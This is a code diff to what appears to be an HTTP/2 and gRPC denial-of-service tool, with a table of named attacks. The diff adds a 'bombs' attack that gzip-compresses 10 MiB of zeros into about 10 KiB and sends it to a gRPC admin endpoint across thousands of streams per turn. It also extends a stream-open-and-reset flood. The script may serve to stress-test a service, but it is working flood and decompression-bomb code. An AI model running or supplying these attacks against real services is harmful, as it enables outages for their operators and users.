@@ -9,6 +9,7 @@ each turn.
 from __future__ import annotations
 
 import contextlib
+import gzip
 import importlib
 import socket
 import ssl
@@ -30,6 +31,7 @@ SLOW_REQUESTS = 200
 SLOT_ELEMENTS = 1 << 29  # 2 GiB, and as much for the result.
 STREAMS_A_TURN = 14_800
 BEATS = 20
+BOMB = 10 << 20  # Of 10 KiB, which one frame carries.
 RECORD = 16_000  # Bytes that TLS carries at once, or a little less.
 
 
@@ -60,7 +62,7 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return head + payload
 
 
-def call(path: str) -> bytes:
+def call(path: str, **more: str) -> bytes:
     """The fields of a call, in HPACK: literals that enter no table."""
     fields = {
         ":method": "POST",
@@ -69,6 +71,7 @@ def call(path: str) -> bytes:
         ":authority": "x",
         "te": "trailers",
         "content-type": "application/grpc",
+        **{name.replace("_", "-"): value for name, value in more.items()},
     }
     return b"".join(
         bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
@@ -155,6 +158,20 @@ def no_calls(target: Target) -> None:
         in_pieces(
             frame(HEADERS, END_HEADERS | END_STREAM, stream, METHOD_GET)
             + frame(RESET, 0, stream, CANCEL)
+            for stream in range(1, 2 * STREAMS_A_TURN, 2)
+        ),
+    )
+
+
+def bombs(target: Target) -> None:
+    """Messages that are large once they are unpacked."""
+    fields = call("/pactrain.v1.Admin/ListJobs", grpc_encoding="gzip")
+    packed = gzip.compress(bytes(BOMB))
+    words = bytes([1]) + len(packed).to_bytes(4, "big") + packed
+    flood(
+        target,
+        (
+            frame(HEADERS, END_HEADERS, stream, fields) + frame(DATA, END_STREAM, stream, words)
             for stream in range(1, 2 * STREAMS_A_TURN, 2)
         ),
     )
@@ -305,6 +322,7 @@ ATTACKS: dict[str, Callable[[Target], None]] = {
     "settings": settings,
     "no-frames": no_frames,
     "messages": messages,
+    "bombs": bombs,
     "handshakes": handshakes,
     "waiting-jobs": waiting_jobs,
     "slow-requests": slow_requests,
